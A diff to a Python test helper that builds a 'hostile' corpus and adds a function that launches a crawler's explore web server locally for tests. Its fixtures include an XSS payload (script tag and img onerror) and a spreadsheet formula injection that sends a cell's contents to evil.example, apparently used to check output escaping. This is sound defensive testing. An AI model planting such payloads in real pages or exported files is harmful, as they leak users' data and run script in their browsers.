@@ -2,7 +2,14 @@
 
 from __future__ import annotations
 
+import socket
+import subprocess
+import sys
+import time
+import urllib.request
 from pathlib import Path
+
+import pytest
 
 from examples.replica.corpus import corpus_of_replica
 from pipelines.corpus.schema import open_corpus
@@ -10,6 +17,7 @@ from pipelines.intake.intake import Reading, store_reading
 from pipelines.record import record_of
 from pipelines.values.article import Article
 from pipelines.values.page import Page
+from tests.paths import ROOT
 
 SCRIPT = "<script>window.hurt = 1</script><img src=x onerror='window.hurt = 1'>"
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1;"hỗ trợ")'
@@ -44,3 +52,21 @@ def hostile_corpus(path: Path) -> dict[str, int]:
     ids = {name: corpus.execute("SELECT id FROM articles WHERE title = ?", [title]).fetchone()[0] for name, (title, _) in pages.items()}
     corpus.close()
     return ids
+
+
+def serve(corpus_db: Path) -> tuple[subprocess.Popen[bytes], str]:
+    """`corpus explore` in a process of its own, as a person starts it."""
+    with socket.socket() as probe:
+        probe.bind(("127.0.0.1", 0))
+        port = probe.getsockname()[1]
+    command = [sys.executable, "-m", "crawler.cli", "explore", "--corpus-db", str(corpus_db), "--port", str(port)]
+    process = subprocess.Popen(command, cwd=ROOT, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    base = f"http://127.0.0.1:{port}"
+    for _ in range(150):
+        try:
+            with urllib.request.urlopen(base + "/-/versions.json", timeout=5):
+                return process, base
+        except OSError:
+            time.sleep(0.2)
+    process.kill()
+    pytest.fail("the explorer did not start within 30 s")
